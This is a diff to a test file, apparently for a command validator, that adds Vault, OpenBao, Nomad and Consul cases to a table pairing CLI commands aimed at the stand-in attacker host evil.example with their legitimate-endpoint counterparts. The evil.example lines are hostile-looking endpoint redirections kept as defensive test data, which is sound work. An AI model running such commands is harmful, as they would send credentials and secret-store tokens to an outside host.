@@ -11,6 +11,10 @@ test.each([
   ['helm --kube-apiserver https://evil.example list', 'helm --kube-apiserver "$API" list'],
   ['doctl --api-url http://evil.example account get', 'doctl account get'],
   ['hcloud --endpoint http://evil.example server list', 'hcloud server list'],
+  ['vault read -address=https://evil.example secret/a', 'vault read -address=https://vault.internal:8200 secret/a'],
+  ['bao kv get -agent-address https://evil.example a', 'bao kv get -address=http://127.0.0.1:8200 a'],
+  ['nomad job status -address=http://evil.example', 'nomad job status -address=http://10.0.0.4:4646'],
+  ['consul kv get -http-addr=evil.example:8500 a', 'consul kv get -http-addr=localhost:8500 a'],
   [
     'az rest --method get --url https://evil.example/x --resource https://management.azure.com/',
     "az rest --method get --url 'https://management.azure.com/subscriptions?api-version=2020-01-01'",
